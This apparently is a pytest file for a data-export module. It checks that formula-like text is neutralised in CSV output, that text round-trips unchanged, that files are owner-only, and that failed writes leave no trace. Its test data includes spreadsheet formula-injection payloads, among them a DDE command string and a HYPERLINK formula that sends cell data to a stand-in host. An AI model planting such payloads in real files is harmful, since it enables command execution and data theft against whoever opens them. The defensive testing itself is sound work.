"""Files that commands write: for their owner alone, whole or not at all, and no formulas for spreadsheets."""

from __future__ import annotations

import csv
import stat
from pathlib import Path
from typing import Any

import pytest

from hoglab.transfer.exporting import ExportError, write_rows
from hoglab.transfer.files import RowFile

FORMULAS = [
    "=cmd|' /C calc'!A0", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "=", "'=1", "''=1", "'-", "=1\n=2",
    '=HYPERLINK("http://e.test?x="&A1,"x")',
]  # fmt: skip
HARMLESS = ["", "a", "'", "'a", "a=1", " =1", "1", "ü", '"', "a,b", "a\nb", "[x]", "{}", "\n=1"]
TYPES = {"event": "VARCHAR", "number": "DOUBLE", "names": "VARCHAR[]"}


def rows_of(texts: list[str]) -> list[dict[str, Any]]:
    return [{"event": text, "number": -1.5, "names": [text]} for text in texts]


def test_no_text_is_a_formula(tmp_path: Path) -> None:
    target = tmp_path / "x.csv"
    assert write_rows(target, TYPES, rows_of(FORMULAS + HARMLESS)) == len(FORMULAS + HARMLESS)
    with target.open(newline="") as file:
        found = list(csv.DictReader(file))
    assert [row["event"] for row in found] == [f"'{text}" for text in FORMULAS] + HARMLESS
    assert {row["number"] for row in found} == {"-1.5"}
    assert all(row["names"].startswith("[") for row in found)


@pytest.mark.parametrize("kind", ["csv", "csv.gz", "jsonl"])
def test_texts_come_back_as_they_were(tmp_path: Path, kind: str) -> None:
    target = tmp_path / f"x.{kind}"
    write_rows(target, TYPES, rows_of(FORMULAS + HARMLESS))
    read = [row.value["event"] for row in RowFile(target).rows() if row.value is not None]
    assert read == FORMULAS + HARMLESS


@pytest.mark.parametrize("kind", ["csv", "jsonl", "parquet", "jsonl.gz"])
def test_only_the_owner_reads_a_file(tmp_path: Path, kind: str) -> None:
    target = tmp_path / f"x.{kind}"
    for text in ("first", "second"):
        write_rows(target, TYPES, rows_of([text]))
        assert stat.S_IMODE(target.stat().st_mode) == 0o600
    assert [path.name for path in tmp_path.iterdir()] == [target.name]


def test_nothing_is_left_of_a_file_that_fails(tmp_path: Path) -> None:
    target = tmp_path / "x.csv"
    target.write_text("before")
    with pytest.raises(ExportError):
        write_rows(target, {"number": "DOUBLE"}, [{"number": "no number"}])
    assert target.read_text() == "before"
    assert [path.name for path in tmp_path.iterdir()] == ["x.csv"]
